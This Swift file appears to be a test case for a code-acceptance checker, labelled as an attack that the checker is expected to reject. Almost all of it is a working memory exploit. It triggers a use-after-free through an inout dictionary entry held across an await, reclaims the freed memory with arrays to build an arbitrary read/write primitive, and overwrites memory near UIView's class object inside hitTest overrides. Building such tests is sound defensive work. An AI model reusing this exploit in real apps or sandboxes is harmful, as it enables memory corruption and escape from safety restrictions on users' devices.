// Attack: uses a freed object while an asynchronous function that changes the variable waits.
// Exercise: 3
// Expect: notAccepted
// Held by: an allow-list of declarations
import UIKit

final class Small { // as large as a list of 26 numbers
    var n = 1
    var a = (0, 0, 0, 0, 0, 0, 0, 0), b = (0, 0, 0, 0, 0, 0, 0, 0), c = (0, 0, 0, 0, 0, 0, 0, 0), d = (0, 0, 0)
}
final class Store {
    var d: [String: Small] = ["k": Small()]
    @MainActor func go() async { await drop(&d["k"]) }
    @MainActor func drop(_ a: inout Small?) async {
        a = nil
        await Mem.fill()
        try? await Task.sleep(nanoseconds: 1 << 60)
    }
}
@MainActor enum Mem {
    static var arrays: [[Int]] = []
    static var base: UInt = 0
    static var at = -1
    static func begin() {
        arrays.reserveCapacity(64)
        let s = Store()
        Task.immediate { await s.go() }
        s.d["k"]!.n = Int.max
        base = UInt(bitPattern: ObjectIdentifier(s.d["k"]!)) &+ 32
        for i in arrays.indices where arrays[i].count == Int.max { at = i }
    }
    static func fill() { for i in 0..<60 { arrays.append(Array(repeating: i, count: 26)) } }
    static subscript(a: UInt) -> Int {
        get { arrays[at][Int((a &- base) >> 3)] }
        set { arrays[at][Int((a &- base) >> 3)] = newValue }
    }
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x22688
    static var old = 0
}

class BaseView: UIView {
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        if Mem.at < 0 { Mem.begin() }
        Mem.old = Mem[Mem.kinds]
        Mem[Mem.kinds] = 0
        defer { Mem[Mem.kinds] = Mem.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Mem[Mem.kinds] = Mem.old
        return super.point(inside: point, with: event)
    }
}
